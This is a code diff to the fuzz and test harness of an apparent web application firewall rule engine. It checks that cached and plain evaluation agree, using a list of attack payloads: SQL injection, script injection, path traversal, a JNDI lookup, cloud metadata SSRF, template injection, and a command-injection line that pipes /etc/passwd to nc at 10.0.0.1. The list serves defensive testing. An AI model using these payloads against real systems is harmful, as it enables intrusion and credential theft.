@@ -172,10 +172,19 @@ pub fn seclang(data: &[u8]) {
     }
 }
 
-/// One request through a small rule set: request line, headers, an empty line, the body.
+/// One request, through a small rule set and through the baseline: request line, headers, an empty
+/// line, the body.
 pub fn transaction(data: &[u8]) {
-    let first = run(data);
-    assert_eq!(first, run(data), "the same request was judged differently");
+    for rules in [&*RULE_SET, &*BASELINE] {
+        fast_and_plain_agree(rules, data);
+    }
+}
+
+/// Caches and prefilters must not change a thing.
+pub(crate) fn fast_and_plain_agree(rules: &Arc<RuleSet>, data: &[u8]) {
+    let fast = run(rules, data, false);
+    let plain = run(rules, data, true);
+    assert_eq!(fast, plain, "a cache or a prefilter changed the verdict");
 }
 
 /// Touches every collection the parsers fill, with the operators that have fast paths.
@@ -199,7 +208,13 @@ static RULE_SET: LazyLock<Arc<RuleSet>> = LazyLock::new(|| {
     Arc::new(loaded.expect("the rules of the target load").rules)
 });
 
-fn run(data: &[u8]) -> Vec<String> {
+#[expect(clippy::expect_used, reason = "the baseline's own test loads it")]
+static BASELINE: LazyLock<Arc<RuleSet>> = LazyLock::new(|| {
+    let loaded = Loader::new().baseline().load();
+    Arc::new(loaded.expect("the baseline loads").rules)
+});
+
+fn run(rules: &Arc<RuleSet>, data: &[u8], plain: bool) -> Vec<String> {
     let (line, mut rest) = split_line(data);
     let mut words = line.splitn(2, |byte| *byte == b' ');
     let line = RequestLine {
@@ -221,7 +236,10 @@ fn run(data: &[u8]) -> Vec<String> {
         client: SocketAddr::from((Ipv4Addr::LOCALHOST, 40_000)),
         server: SocketAddr::from((Ipv4Addr::LOCALHOST, 80)),
     };
-    let mut transaction = RULE_SET.begin(origin, "fuzz", SystemTime::UNIX_EPOCH);
+    let mut transaction = rules.begin(origin, "fuzz", SystemTime::UNIX_EPOCH);
+    if plain {
+        transaction.plainly();
+    }
     let refused = transaction
         .request_headers(line, headers.into_iter())
         .is_some()
@@ -240,13 +258,38 @@ fn split_line(data: &[u8]) -> (&[u8], &[u8]) {
     (line, halves.next().unwrap_or_default())
 }
 
+/// Payloads of many kinds in many places.
+#[cfg(test)]
+pub(crate) fn attacks() -> Vec<String> {
+    let mut requests = Vec::new();
+    for payload in [
+        "1' UNION SELECT password FROM users--",
+        "<ScRiPt>alert(1)</sCrIpT>",
+        "../../../../etc/passwd",
+        "${jndi:ldap://x/a}",
+        ";cat /etc/passwd|nc 10.0.0.1 80",
+        "{{7*7}}%{{}}",
+        "http://169.254.169.254/latest/meta-data",
+        "&#x3c;img src=x onerror=&quot;a()&quot;&gt;",
+        "\\u003cscript\\u003e %u003cb %C0%AF caf\u{e9} \u{212a}",
+    ] {
+        for body in [format!("a={payload}"), format!("{{\"a\":\"{payload}\"}}")] {
+            for kind in ["application/x-www-form-urlencoded", "application/json"] {
+                let head = format!("POST /x?q={payload} HTTP/1.1\nHost: a\nContent-Type: {kind}");
+                requests.push(format!("{head}\nCookie: c={payload}\n\n{body}"));
+            }
+        }
+    }
+    requests
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
 
     #[test]
     fn the_rules_of_the_transaction_target_are_not_idle() {
-        let judged = |data: &[u8]| run(data).pop();
+        let judged = |data: &[u8]| run(&RULE_SET, data, false).pop();
         let refused = Some("true".to_owned());
         let passed = Some("false".to_owned());
         assert_eq!(judged(b"GET /a?q=%3Cscript%3E\nHost: h\n\n"), refused);
@@ -272,6 +315,13 @@ mod tests {
             uri(data);
             seclang(data);
             transaction(data);
+        }
+    }
+
+    #[test]
+    fn fast_and_plain_evaluation_agree_on_attacks() {
+        for request in attacks() {
+            transaction(request.as_bytes());
         }
     }
 }
